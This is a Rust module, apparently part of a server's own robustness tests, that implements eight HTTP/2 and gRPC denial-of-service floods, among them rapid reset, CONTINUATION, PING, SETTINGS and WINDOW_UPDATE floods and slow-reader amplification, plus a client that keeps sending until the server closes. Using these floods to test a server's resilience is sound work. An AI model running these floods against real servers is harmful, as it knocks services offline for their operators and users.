//! Floods: what a client can send that costs it next to nothing and a server something, and a client that sends it for as long
//! as it is let.

use std::{
    io::{self, Read as _, Write as _},
    net::{SocketAddr, TcpStream},
    time::{Duration, Instant},
};

use rustix::event::{PollFd, PollFlags, Timespec, poll};

use super::frames::{
    self, CONTINUATION, DATA, END_HEADERS, HEADERS, INITIAL_WINDOW_SIZE, PING, PREFACE, RST_STREAM, WINDOW_UPDATE,
    Walk, call, put, put_message, put_setting,
};

/// Frames of a burst.
const BURST: u32 = 200;
const APPEND: &str = "/ttdust.ingestion.v1.IngestionService/Append";
const REFLECTION: &str = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
/// A request of that service that is answered by more bytes than it has: the list of services.
const LIST_SERVICES: &[u8] = b"\x3a\x01*";
/// Bursts of such requests: 1.6 MB, and answers of 100 MB.
const REQUEST_BURSTS: u32 = 1_000;
const READ_BYTES: usize = 64 << 10;
/// How long is waited for the socket at a time.
const WAIT: Duration = Duration::from_millis(100);

/// One way to flood.
pub struct Attack {
    /// What it is called.
    pub name: &'static str,
    /// What a connection begins with, after preface and settings.
    open: fn(&mut Vec<u8>),
    /// What is sent again and again; the number is that of the next stream.
    burst: fn(&mut Vec<u8>, &mut u32),
    /// Whether it takes what the server answers.
    pub reads: bool,
}

/// All of them.
pub static ATTACKS: [Attack; 8] = [
    Attack { name: "rapid-reset", open: nothing, burst: rapid_reset, reads: true },
    Attack { name: "continuation", open: endless_head, burst: continuation, reads: true },
    Attack { name: "settings", open: nothing, burst: settings, reads: true },
    Attack { name: "ping", open: nothing, burst: ping, reads: true },
    Attack { name: "empty-data", open: append, burst: empty_data, reads: true },
    Attack { name: "window-update", open: append, burst: window_update, reads: true },
    Attack { name: "tiny-window", open: tiny_window, burst: tiny_steps, reads: true },
    Attack { name: "slow-reader", open: wide_window, burst: requests, reads: false },
];

fn nothing(_: &mut Vec<u8>) {}

fn rapid_reset(out: &mut Vec<u8>, stream: &mut u32) {
    let head = call(APPEND);
    for _ in 0..BURST {
        put(out, HEADERS, END_HEADERS, *stream, &head);
        // CANCEL
        put(out, RST_STREAM, 0, *stream, &8u32.to_be_bytes());
        *stream += 2;
    }
}

fn endless_head(out: &mut Vec<u8>) {
    put(out, HEADERS, 0, 1, &call(APPEND));
}

fn continuation(out: &mut Vec<u8>, _: &mut u32) {
    (0..BURST).for_each(|_| put(out, CONTINUATION, 0, 1, b"\x00\x01x\x01y"));
}

fn settings(out: &mut Vec<u8>, _: &mut u32) {
    (0..BURST).for_each(|n| put_setting(out, INITIAL_WINDOW_SIZE, 65_535 + n % 2));
}

fn ping(out: &mut Vec<u8>, _: &mut u32) {
    (0..BURST).for_each(|_| put(out, PING, 0, 0, b"pingpong"));
}

fn append(out: &mut Vec<u8>) {
    put(out, HEADERS, END_HEADERS, 1, &call(APPEND));
}

fn empty_data(out: &mut Vec<u8>, _: &mut u32) {
    (0..BURST).for_each(|_| put(out, DATA, 0, 1, b""));
}

fn window_update(out: &mut Vec<u8>, _: &mut u32) {
    (0..BURST).for_each(|_| put(out, WINDOW_UPDATE, 0, 1, &1u32.to_be_bytes()));
}

fn tiny_window(out: &mut Vec<u8>) {
    put_setting(out, INITIAL_WINDOW_SIZE, 1);
    put(out, HEADERS, END_HEADERS, 1, &call(REFLECTION));
}

/// More to be answered, and room for a byte at a time.
fn tiny_steps(out: &mut Vec<u8>, _: &mut u32) {
    put_message(out, 1, LIST_SERVICES);
    put(out, WINDOW_UPDATE, 0, 0, &BURST.to_be_bytes());
    (0..BURST).for_each(|_| put(out, WINDOW_UPDATE, 0, 1, &1u32.to_be_bytes()));
}

fn wide_window(out: &mut Vec<u8>) {
    put_setting(out, INITIAL_WINDOW_SIZE, (1 << 31) - 1);
    put(out, WINDOW_UPDATE, 0, 0, &(1u32 << 30).to_be_bytes());
    put(out, HEADERS, END_HEADERS, 1, &call(REFLECTION));
}

/// No more than the server's window has room for: it is the answers that are to wait.
fn requests(out: &mut Vec<u8>, turn: &mut u32) {
    if *turn < 2 * REQUEST_BURSTS {
        (0..BURST).for_each(|_| put_message(out, 1, LIST_SERVICES));
        *turn += 2;
    }
}

/// How a connection came to its end.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Closed {
    /// The server said goodbye, for this reason.
    Goodbye(u32),
    /// The server closed without a word, or it was not heard.
    Cut,
}

/// One flooding connection.
pub struct Flooder<'a> {
    attack: &'a Attack,
    socket: TcpStream,
    out: Vec<u8>,
    at: usize,
    stream: u32,
    walk: Walk,
    /// Bytes that were sent.
    pub sent: u64,
}

impl<'a> Flooder<'a> {
    /// Connects.
    ///
    /// # Errors
    /// The server is not there.
    pub fn open(attack: &'a Attack, address: SocketAddr) -> io::Result<Self> {
        let socket = TcpStream::connect(address)?;
        socket.set_nonblocking(true)?;
        socket.set_nodelay(true)?;
        let mut out = PREFACE.to_vec();
        put(&mut out, frames::SETTINGS, 0, 0, b"");
        put(&mut out, frames::SETTINGS, frames::ACK, 0, b"");
        (attack.open)(&mut out);
        Ok(Self { attack, socket, out, at: 0, stream: 1, walk: Walk::default(), sent: 0 })
    }

    /// Floods until the server closes, or `until` comes, which is `None`.
    ///
    /// # Errors
    /// The system failed.
    pub fn flood(&mut self, until: Instant) -> io::Result<Option<Closed>> {
        while Instant::now() < until {
            self.refill();
            let mut wanted = PollFlags::empty();
            wanted.set(PollFlags::OUT, self.at < self.out.len());
            wanted.set(PollFlags::IN, self.attack.reads);
            let mut polled = [PollFd::new(&self.socket, wanted)];
            let wait = Timespec { tv_sec: 0, tv_nsec: WAIT.as_nanos() as i64 };
            match poll(&mut polled, Some(&wait)) {
                Ok(_) | Err(rustix::io::Errno::INTR) => {}
                Err(error) => return Err(error.into()),
            }
            let ready = polled[0].revents();
            let gone = ready.intersects(PollFlags::ERR | PollFlags::HUP);
            let closed = gone
                || (ready.contains(PollFlags::IN) && self.is_over()?)
                || (ready.contains(PollFlags::OUT) && self.send()?);
            if closed {
                // What it said last may lie before the end.
                while !self.is_over()? {}
                return Ok(Some(self.walk.goaway.map_or(Closed::Cut, Closed::Goodbye)));
            }
        }
        Ok(None)
    }

    /// Takes what is there; whether the connection is at its end.
    fn is_over(&mut self) -> io::Result<bool> {
        let mut buffer = [0; READ_BYTES];
        loop {
            match self.socket.read(&mut buffer) {
                Ok(0) => return Ok(true),
                Ok(n) => self.walk.feed(&buffer[..n]),
                Err(error) if error.kind() == io::ErrorKind::WouldBlock => return Ok(false),
                Err(error) if is_cut(&error) => return Ok(true),
                Err(error) => return Err(error),
            }
        }
    }

    fn refill(&mut self) {
        if self.at == self.out.len() {
            self.out.clear();
            self.at = 0;
            // Streams have an end, and with them the connection.
            if self.stream < 1 << 30 {
                (self.attack.burst)(&mut self.out, &mut self.stream);
            }
        }
    }

    /// Sends what there is room for; whether the connection is at its end.
    fn send(&mut self) -> io::Result<bool> {
        match self.socket.write(&self.out[self.at..]) {
            Ok(n) => {
                self.at += n;
                self.sent += n as u64;
                Ok(false)
            }
            Err(error) if error.kind() == io::ErrorKind::WouldBlock => Ok(false),
            Err(error) if is_cut(&error) => Ok(true),
            Err(error) => Err(error),
        }
    }
}

fn is_cut(error: &io::Error) -> bool {
    use io::ErrorKind::{BrokenPipe, ConnectionAborted, ConnectionReset, NotConnected};
    matches!(error.kind(), BrokenPipe | ConnectionAborted | ConnectionReset | NotConnected)
}
